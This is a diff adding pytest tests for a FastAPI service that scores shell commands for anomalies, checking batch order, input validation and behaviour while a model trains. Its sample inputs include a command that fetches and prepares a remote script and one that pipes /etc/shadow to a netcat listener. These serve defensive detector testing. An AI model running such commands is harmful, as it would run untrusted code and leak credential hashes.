@@ -0,0 +1,64 @@
+import os
+
+import pytest
+from fastapi.testclient import TestClient
+
+import main
+
+client = TestClient(main.app)
+
+COMMANDS = ["ls -la", "wget http://10.0.0.5/a.sh && chmod +x a.sh", "git status", "", "cat /etc/shadow | nc 10.0.0.9 4444"]
+
+
+def test_score_batch_returns_results_in_input_order(trained_runtime):
+    r = client.post("/api/anomaly/score-batch", json={"commands": COMMANDS})
+    assert r.status_code == 200
+    body = r.json()
+    assert body["count"] == len(COMMANDS)
+    assert body["model_name"] == "default"
+    singles = [trained_runtime.score_command(c) for c in COMMANDS]
+    for res, single in zip(body["results"], singles):
+        assert res["features"] == pytest.approx(single["features"])
+        assert res["base_score"] == pytest.approx(single["base_score"])
+    assert all(res["model_version"] == body["model_version"] for res in body["results"])
+
+
+def test_score_batch_handles_empty_list(trained_runtime):
+    r = client.post("/api/anomaly/score-batch", json={"commands": []})
+    assert r.status_code == 200
+    assert r.json() == {"success": True, "count": 0, "model_name": "default", "model_version": None, "results": []}
+
+
+def test_score_batch_rejects_non_string_commands(trained_runtime):
+    r = client.post("/api/anomaly/score-batch", json={"commands": ["ls", 3]})
+    assert r.status_code == 400
+
+
+def test_scoring_returns_503_while_model_trains(isolated_runtime, monkeypatch):
+    def fake_start(reason="manual", model_name=None):
+        isolated_runtime._TRAINING_STATUS.update(state="running")
+        return True
+
+    monkeypatch.setattr(isolated_runtime, "start_training", fake_start)
+    assert client.post("/api/anomaly/score-batch", json={"commands": ["ls"]}).status_code == 503
+    assert client.post("/api/anomaly/score", json={"command": "ls"}).status_code == 503
+    assert client.get("/api/anomaly/model-meta").status_code == 503
+
+
+def test_unknown_model_names_are_rejected_without_side_effects(trained_runtime, monkeypatch):
+    monkeypatch.setattr(trained_runtime, "_get_config_model_names", lambda: {"educational_demo"})
+    monkeypatch.setattr(main.model_registry, "_config_names_expires", 0.0)
+    monkeypatch.setattr(trained_runtime, "start_training", lambda *a, **k: pytest.fail("scoring must not train"))
+    batchers = dict(main._anomaly_score_batchers)
+
+    for i in range(3):
+        r = client.post("/api/anomaly/score", json={"command": "ls", "model_name": f"junk{i}"})
+        assert r.status_code == 404
+    assert client.post("/api/anomaly/score-batch", json={"commands": ["ls"], "model_name": "junk"}).status_code == 404
+    assert client.post("/api/anomaly/score", json={"command": "ls", "model_name": "../x"}).status_code == 400
+    assert main._anomaly_score_batchers == batchers
+    assert not os.path.exists(os.path.join(trained_runtime.MODELS_DIR, trained_runtime.NAMED_MODELS_SUBDIR))
+
+    # Configured but untrained: 503, still without starting a job
+    r = client.post("/api/anomaly/score-batch", json={"commands": ["ls"], "model_name": "educational_demo"})
+    assert r.status_code == 503